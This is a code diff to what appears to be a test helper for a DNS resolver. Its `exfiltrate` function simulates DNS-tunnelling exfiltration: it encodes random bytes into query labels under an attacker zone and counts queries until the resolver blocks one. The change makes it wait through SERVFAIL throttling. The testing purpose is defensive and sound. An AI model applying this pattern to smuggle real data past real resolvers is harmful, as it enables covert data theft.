@@ -4,6 +4,7 @@ import os
 import random
 import shutil
 import signal
+import time
 
 import dns
 from resolvers import log_waits_for, wait_for
@@ -20,13 +21,18 @@ def attacker_zone(number):
 
 
 def exfiltrate(server, zone, count, source="127.43.0.1", seed=1):
-    """Asks names that carry 35 random bytes each until one is refused: (how many, the refusal)."""
+    """Asks names that carry 35 random bytes each until one is stopped: (how many, the refusal).
+
+    A throttled one (SERVFAIL, one a second passes) is not stopped yet.
+    """
     rng = random.Random("%s-%s" % (zone, seed))
     for i in range(count):
         label = "".join(rng.choice(ALPHABET) for _ in range(56))
         message = dns.ask(server, "%s.%s" % (label, zone), "A", source=source)
         if any(code in (15, 17) for code, _ in message.errors()):
-            return i + 1, message
+            if message.rcode_text != "SERVFAIL":
+                return i + 1, message
+            time.sleep(1)
     return count, None
 
 
